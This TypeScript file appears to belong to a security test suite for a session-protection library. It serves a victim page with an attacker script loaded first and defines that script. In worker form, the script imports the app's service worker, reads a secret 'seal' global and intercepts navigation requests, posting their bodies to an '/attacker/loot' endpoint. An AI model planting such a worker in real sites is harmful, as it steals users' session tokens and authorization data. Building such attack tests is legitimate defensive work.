import { fileURLToPath } from 'node:url';
import { barePage } from '../../support/bare-page.js';
import { bundledPage } from '../../support/bundled-page.js';
import type { Attack } from '../attack.js';
import { installAttackerKit } from '../attacker-kit.js';

const PAGE = `<!doctype html><title>victim</title>
<script src="/attacker.js"></script>
<script type="module" src="/bare.js"></script>
<button id="go">Go on</button>`;

let library: Promise<Buffer> | undefined;

/** The app's files: in each of its pages a script of the attacker's comes before the app's own. */
export async function victimFiles(): Promise<Map<string, Buffer>> {
  library ??= bundledPage(fileURLToPath(new URL('./library-entry.ts', import.meta.url)));
  return new Map([
    ...(await barePage()),
    ['/index.html', Buffer.from(PAGE)],
    ['/desk.html', Buffer.from(PAGE)],
    ['/library.js', await library],
    ['/data.json', Buffer.from('{"data":true}')],
    ['/notes.txt', Buffer.from('plain text')],
    ['/module.js', Buffer.from('export const nothing = 0;')],
  ]);
}

/** The attacker's script for one attack; outside of a page, as a worker, it only reads what comes by. */
export function attackerScript({ before }: Pick<Attack, 'before'>): string {
  const early = before ? `(${before.toString()})();` : '';
  return `if (globalThis.document) { (${installAttackerKit.toString()})(); ${early} } else (${workAsWorker.toString()})();`;
}

/** The same file, got into a worker: it looks for the seal, and reads what the authorization server sends. */
function workAsWorker(): void {
  const tell = (text: string) =>
    fetch('/attacker/loot', { method: 'POST', body: JSON.stringify([{ label: 'a worker', texts: [text] }]) });
  const scope = globalThis as unknown as {
    importScripts(url: string): void;
    skipWaiting?(): Promise<void>;
  };
  void scope.skipWaiting?.();
  for (const url of ['/service-worker.js']) {
    try {
      scope.importScripts(url);
      void tell(JSON.stringify(Reflect.get(globalThis, '__SESSION_KEEPER_SEAL__') ?? null));
    } catch {
      // Refused.
    }
  }
  globalThis.addEventListener('fetch', (event) => {
    const { request, respondWith } = event as Event & {
      request: Request;
      respondWith(answer: Promise<Response>): void;
    };
    const read = async () => {
      await tell(`${request.url} ${await request.text()}`);
      return Response.redirect('/desk.html', 303);
    };
    if (request.mode === 'navigate') respondWith.call(event, read());
  });
}

/** Gets `library-entry.ts` into a page that does not have it yet. Serialized. */
export function loadLibrary(): Promise<void> {
  return new Promise((resolve, reject) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = '/library.js';
    script.onload = () => resolve();
    script.onerror = reject;
    document.head.append(script);
  });
}
